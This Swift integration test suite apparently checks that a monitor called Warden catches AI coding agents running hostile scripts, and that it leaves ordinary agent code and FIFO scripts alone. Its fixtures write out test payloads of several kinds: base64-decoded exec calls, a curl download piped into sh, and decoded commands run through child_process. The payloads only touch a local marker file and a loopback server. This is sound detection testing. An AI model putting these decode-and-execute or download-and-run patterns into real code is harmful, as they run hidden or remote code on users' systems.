import Foundation
import Glibc
import Testing

/// Code inspection at the hold, against the real kernel: a payload in a script file (not on the
/// command line) is caught from the file's content, and in enforce mode stopped before it acts;
/// an agent's ordinary code blocks run untouched; a FIFO given as the script hangs nothing.
@Suite("Script inspection on the real kernel", .serialized)
struct ScriptInspectionIntegrationTests {
    private static let warning = ["Emergency", "Alert", "Critical", "Error", "Warning"]

    struct Shape: CustomTestStringConvertible, Sendable {
        var name: String
        var rule: String
        /// Text the alert's evidence must show (a line of the script).
        var evidence: String
        /// Writes the script into the workspace and returns the agent's tool call running it.
        var prepare: @Sendable (_ h: WardenHarness, _ port: Int) throws -> String

        var testDescription: String { name }
    }

    static let shapes = [
        Shape(name: "python3 ./helper.py decoding and executing", rule: "script-decodes-and-executes", evidence: "b64decode") { h, _ in
            let payload = Data("open('\(h.path("MARKERS"))', 'a').write('pwned\\n')".utf8).base64EncodedString()
            try h.write("prepared.py", "import base64\nprint('setting up')\nexec(base64.b64decode('\(payload)'))\n")
            // Written by the lineage moments before it runs, in the workspace.
            return "cp prepared.py helper.py && /usr/bin/python3 ./helper.py"
        },
        Shape(name: "sh ./setup.sh piping a download into sh", rule: "script-downloads-and-executes", evidence: "curl -fsS") { h, port in
            try h.write("www/i.sh", "echo pwned >> \(h.path("MARKERS"))\n")
            try h.write("setup.sh", "#!/bin/sh\necho installing\ncurl -fsS http://127.0.0.1:\(port)/i.sh | sh\n")
            return "sh ./setup.sh"
        },
        Shape(name: "node x.js running a decoded command through child_process", rule: "script-decodes-and-executes", evidence: "Buffer.from") { h, _ in
            let command = Data("echo pwned >> \(h.path("MARKERS"))".utf8).base64EncodedString()
            try h.write("x.js", "const cp = require('child_process');\ncp.execSync(Buffer.from('\(command)', 'base64').toString());\n")
            return "node x.js"
        },
        Shape(name: "python3 reading a decoding payload from a file on stdin", rule: "script-decodes-and-executes", evidence: "b64decode") { h, _ in
            let payload = Data("open('\(h.path("MARKERS"))', 'a').write('pwned\\n')".utf8).base64EncodedString()
            try h.write("job.txt", "import base64\nexec(base64.b64decode('\(payload)'))\n")
            return "/usr/bin/python3 < job.txt"
        },
    ]

    private func run(_ shape: Shape, mode: [String]) throws -> (h: WardenHarness, result: WardenHarness.Result) {
        let h = try WardenHarness()
        try FileManager.default.createDirectory(atPath: h.path("www"), withIntermediateDirectories: true)
        let server = try LoopbackServer(httpRoot: h.path("www"))
        let tool = try shape.prepare(h, server.port)
        let result = try h.run(["bash", "-c", "\(tool); echo status=$?"], extra: mode + ["--name", "claude-code"])
        return (h, result)
    }

    private func markers(_ h: WardenHarness) -> Int {
        ((try? String(contentsOfFile: h.path("MARKERS"), encoding: .utf8)) ?? "").split(separator: "\n").count
    }

    private func alerts(_ result: WardenHarness.Result, rule: String) -> [[String: Any]] {
        result.events.ofType("alert").filter { $0.string("rule") == rule }
    }

    @Test("audit: the script's content raises the alert, with the lines that matched", arguments: shapes)
    func auditAlertsWithEvidence(_ shape: Shape) throws {
        let (h, result) = try run(shape, mode: [])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(markers(h) == 1, "audit mode lets the payload run")
        let alert = try #require(alerts(result, rule: shape.rule).first,
                                 "rules: \(Set(result.events.ofType("alert").compactMap { $0.string("rule") }))")
        let output = alert.string("output") ?? ""
        #expect(output.contains(shape.evidence), "\(output)")
        #expect(output.contains("read)") || output.contains(", read"), "the status says the code was read whole: \(output)")
        let warden = try #require(alert["warden"] as? [String: Any])
        #expect(warden["outcome"] as? String == "would kill (audit mode)")
    }

    @Test("enforce: the interpreter is killed before its script's payload acts", arguments: shapes)
    func enforceStopsThePayload(_ shape: Shape) throws {
        let (h, result) = try run(shape, mode: ["--enforce"])
        #expect(result.status == 0, "the agent survives: \(result.stderr)")
        #expect(markers(h) == 0, "the payload acted")
        #expect(String(decoding: result.stdout, as: UTF8.self).contains("status=137"), "the tool call was killed")
        let alert = try #require(alerts(result, rule: shape.rule).first)
        let warden = try #require(alert["warden"] as? [String: Any])
        #expect(warden["mechanism"] as? String == "hold-kill", "\(warden)")
        #expect((warden["outcome"] as? String)?.hasPrefix("killed before") == true, "\(warden)")
    }

    @Test("enforce: an agent's ordinary code blocks, in its /tmp work dir and in a workspace subdirectory, run untouched")
    func benignScriptsRunUntouched() throws {
        // The harness's directory is under /tmp and is the agent's working directory: the shape of
        // AutoGen's executor, which writes tmp_code_<hash>.py into a /tmp/tmpXXXX work dir and runs it.
        let h = try WardenHarness()
        try FileManager.default.createDirectory(atPath: h.path("coding"), withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: h.path("src"), withIntermediateDirectories: true)
        let python = """
            # filename: analyse.py
            import base64, json, os, subprocess, sys
            rows = [{'region': r, 'total': i * 10} for i, r in enumerate(['eu', 'us', 'apac'])]
            subprocess.run([sys.executable, '--version'], check=True)
            os.makedirs('out', exist_ok=True)
            with open('out/result.json', 'w') as f:
                json.dump({'rows': rows, 'id': base64.b64encode(b'report').decode()}, f)
            print('total', sum(r['total'] for r in rows))
            """
        let shell = "#!/bin/sh\nset -e\nls > listing.txt\necho built > coding/built.txt\n"
        let node = "const fs = require('fs');\nconst { execSync } = require('child_process');\nfs.writeFileSync('node.txt', execSync('echo hi').toString());\n"
        try h.write("src/analyse.py", python + "\n")
        try h.write("src/build.sh", shell)
        try h.write("src/x.js", node)
        // The agent writes each code block into its work dir, then runs it.
        let tool = """
            cp src/analyse.py tmp_code_3f2a9c.py && /usr/bin/python3 tmp_code_3f2a9c.py \
            && cp src/build.sh coding/tmp_code_77b1.sh && sh coding/tmp_code_77b1.sh \
            && cp src/x.js coding/tmp_code_aa01.js && node coding/tmp_code_aa01.js \
            && echo agent-done
            """
        let result = try h.run(["bash", "-c", tool], extra: ["--enforce", "--name", "claude-code"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(String(decoding: result.stdout, as: UTF8.self).contains("agent-done"))
        #expect(FileManager.default.fileExists(atPath: h.path("out/result.json")))
        #expect(FileManager.default.fileExists(atPath: h.path("coding/built.txt")))
        #expect((try? String(contentsOfFile: h.path("node.txt"), encoding: .utf8)) == "hi\n")
        let loud = result.events.ofType("alert").filter { Self.warning.contains($0.string("priority") ?? "") }
        #expect(loud.isEmpty, "\(loud.map { "\($0.string("rule") ?? ""): \($0.string("output") ?? "")" })")
        // The scripts were read whole (script-inspected is Debug context).
        let inspected = result.events.ofType("alert").filter { $0.string("rule") == "script-inspected" }.compactMap { $0.string("output") }
        for name in ["tmp_code_3f2a9c.py (python): script read", "coding/tmp_code_77b1.sh (shell): script read", "coding/tmp_code_aa01.js (node): script read"] {
            #expect(inspected.contains { $0.contains(" " + name) }, "\(inspected)")
        }
    }

    @Test("enforce: a FIFO given as the script is never opened by Warden, and neither it nor the agent hangs")
    func fifoScriptDoesNotHang() throws {
        let h = try WardenHarness()
        let start = Date()
        let tool = """
            mkfifo pipe.py
            /usr/bin/python3 pipe.py > fifo-output &
            sleep 0.5
            echo "print('from the fifo')" > pipe.py
            wait
            cat fifo-output
            echo agent-done
            """
        let result = try h.run(["bash", "-c", tool], extra: ["--enforce", "--name", "claude-code"], timeout: 30)
        #expect(result.status == 0, "\(result.stderr)")
        let stdout = String(decoding: result.stdout, as: UTF8.self)
        #expect(stdout.contains("from the fifo"), "the interpreter read the FIFO itself: \(stdout)")
        #expect(stdout.contains("agent-done"))
        #expect(Date().timeIntervalSince(start) < 15)
        let inspected = result.events.ofType("alert").filter { $0.string("rule") == "script-inspected" }.compactMap { $0.string("output") }
        #expect(inspected.contains { $0.contains(" pipe.py (python): script not-regular") }, "\(inspected)")
    }
}
